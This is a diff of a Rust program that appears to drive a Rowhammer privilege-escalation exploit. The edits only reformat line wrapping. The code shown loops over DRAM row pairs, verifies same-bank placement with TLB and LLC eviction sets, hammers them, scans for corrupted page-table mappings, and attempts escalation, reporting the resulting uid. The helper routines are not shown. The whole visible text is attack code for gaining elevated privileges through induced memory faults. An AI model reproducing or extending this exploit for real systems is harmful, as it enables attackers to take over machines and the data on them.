@@ -50,29 +50,60 @@ fn main() -> Result<(), Box<dyn std::error::Error>> {
     for attempt in 1..=config.max_attempts {
         let pair = candidate_pairs(&prepared.spray, row_span, 1, &mut rng)[0];
         let hammer = ImplicitHammer::prepare(
-            &mut sys, pid, pair, &prepared.tlb_pool, &prepared.llc_pool, config.llc_profile_trials,
+            &mut sys,
+            pid,
+            pair,
+            &prepared.tlb_pool,
+            &prepared.llc_pool,
+            config.llc_profile_trials,
         )?;
         let verification = verify_same_bank(
-            &mut sys, pid, pair, &hammer.tlb_low, &hammer.tlb_high,
-            &hammer.llc_low, &hammer.llc_high, threshold, 5,
+            &mut sys,
+            pid,
+            pair,
+            &hammer.tlb_low,
+            &hammer.tlb_high,
+            &hammer.llc_low,
+            &hammer.llc_high,
+            threshold,
+            5,
         )?;
         if !verification.same_bank {
-            println!("[{attempt:02}] pair {:#x}/{:#x}: not same-bank, skipping", pair.low.as_u64(), pair.high.as_u64());
+            println!(
+                "[{attempt:02}] pair {:#x}/{:#x}: not same-bank, skipping",
+                pair.low.as_u64(),
+                pair.high.as_u64()
+            );
             continue;
         }
         let stats = hammer.hammer(&mut sys, pid, config.hammer_rounds_per_attempt)?;
         println!(
             "[{attempt:02}] hammered {} rounds, avg {:.0} cycles/round, {:.0}% implicit DRAM hits",
-            stats.rounds, stats.avg_round_cycles(), stats.low_dram_rate() * 100.0
+            stats.rounds,
+            stats.avg_round_cycles(),
+            stats.low_dram_rate() * 100.0
         );
-        let (findings, _) = scan_for_corrupted_mappings(&mut sys, pid, &prepared.spray, &pair, row_span)?;
+        let (findings, _) =
+            scan_for_corrupted_mappings(&mut sys, pid, &prepared.spray, &pair, row_span)?;
         for finding in &findings {
-            println!("     corrupted mapping at {} -> {:?}", finding.vaddr, finding.kind);
-            if let Some(route) =
-                attempt_escalation(&mut sys, pid, &prepared.tlb_pool, &prepared.spray, finding, uid)?
-            {
+            println!(
+                "     corrupted mapping at {} -> {:?}",
+                finding.vaddr, finding.kind
+            );
+            if let Some(route) = attempt_escalation(
+                &mut sys,
+                pid,
+                &prepared.tlb_pool,
+                &prepared.spray,
+                finding,
+                uid,
+            )? {
                 println!("[+] privilege escalation via {route:?}");
-                println!("[+] getuid({}) = {}", route.escalated_pid(), sys.getuid(route.escalated_pid())?);
+                println!(
+                    "[+] getuid({}) = {}",
+                    route.escalated_pid(),
+                    sys.getuid(route.escalated_pid())?
+                );
                 return Ok(());
             }
         }
